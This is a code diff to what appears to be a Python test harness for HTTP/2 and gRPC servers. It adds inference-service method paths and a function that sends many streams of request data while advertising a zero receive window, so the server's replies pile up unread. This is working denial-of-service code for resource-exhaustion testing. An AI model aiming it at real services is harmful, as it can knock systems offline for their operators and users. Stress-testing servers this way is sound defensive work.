@@ -19,6 +19,8 @@ UNARY_CALL = "/grpc.testing.TestService/UnaryCall"
 STREAMING_INPUT = "/grpc.testing.TestService/StreamingInputCall"
 STREAMING_OUTPUT = "/grpc.testing.TestService/StreamingOutputCall"
 PREDICT = "/tutelage.v1.Prediction/Predict"
+PREDICT_STREAM = "/tutelage.v1.Prediction/PredictStream"
+INFER_STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"
 
 
 def flood(address, opening, unit, count, reads=True):
@@ -184,6 +186,23 @@ def zero_window(address, path=UNARY_CALL, calls=100, size=1 << 20, seconds=60):
             content = b"\x12" + varint(len(parameter)) + parameter
         for stream in range(1, 2 * calls, 2):
             attacker.send(call(stream, path) + frame(DATA, END_STREAM, stream, message(content)))
+        attacker.wait(seconds=seconds)
+        return attacker
+
+
+def unread_streams(address, path, content, streams, messages, *more, flags=0, seconds=60):
+    """Requests of many streams, all sent, of whose answers nothing may be sent; until the server closes
+    or the time is over.
+
+    All of it must fit the windows of the connection (4 MiB) and of each stream (1 MiB).
+    """
+    body = message(content, flags) * messages
+    with connection(address, (INITIAL_WINDOW_SIZE, 0)) as attacker:
+        attacker.greet()
+        for stream in range(1, 2 * streams, 2):
+            attacker.send(call(stream, path, *more))
+            for start in range(0, len(body), 16_384):
+                attacker.send(frame(DATA, 0, stream, body[start:start + 16_384]))
         attacker.wait(seconds=seconds)
         return attacker
 
